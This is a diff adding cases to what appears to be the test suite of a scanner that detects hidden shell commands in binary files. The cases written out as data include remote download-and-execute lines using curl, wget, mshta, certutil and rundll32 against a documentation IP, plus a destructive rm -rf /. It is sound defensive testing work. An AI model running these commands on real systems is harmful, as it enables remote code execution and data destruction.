@@ -46,6 +46,16 @@ CASES = {
     "attack_fetched_and_made_executable": hidden(
         b"\0wget -q http://192.0.2.1/m -O /tmp/m && chmod +x /tmp/m && /tmp/m\0", Verdict.MALICIOUS
     ),
+    "attack_substituted": hidden(b"\0bash <(curl -s http://192.0.2.1/x.sh)\0", Verdict.MALICIOUS),
+    "attack_substituted_in_text": hidden(b'\0sh -c "$(curl -fsSL http://192.0.2.1/x.sh)"\0', Verdict.MALICIOUS),
+    "attack_mshta": hidden(b"\0mshta http://192.0.2.1/x.hta\0", Verdict.MALICIOUS),
+    "attack_certutil": hidden(b"\0CertUtil.exe -urlcache -split -f http://192.0.2.1/x.exe x.exe\0", Verdict.MALICIOUS),
+    "attack_rundll32": hidden(b"\0rundll32 javascript:modelsweep-test\0", Verdict.MALICIOUS),
+    "benign_installers": hidden(
+        b'\0bash <(curl -s https://example.com/x.sh)\0sh -c "$(curl -fsSL https://example.com/install.sh)"\0'
+        b"certutil -hashfile model.bin SHA256\0regsvr32 /s x.dll\0",
+        Verdict.NOT_SCANNED,
+    ),
     "attack_removal": hidden(b"\0rm -rf /\0", Verdict.MALICIOUS),
     "benign_rights_and_removals": hidden(
         b"\0chmod +x build.sh && ./build.sh\0rm -rf /var/lib/apt/lists/*\0rm -rf ~/.cache/pip\0", Verdict.NOT_SCANNED
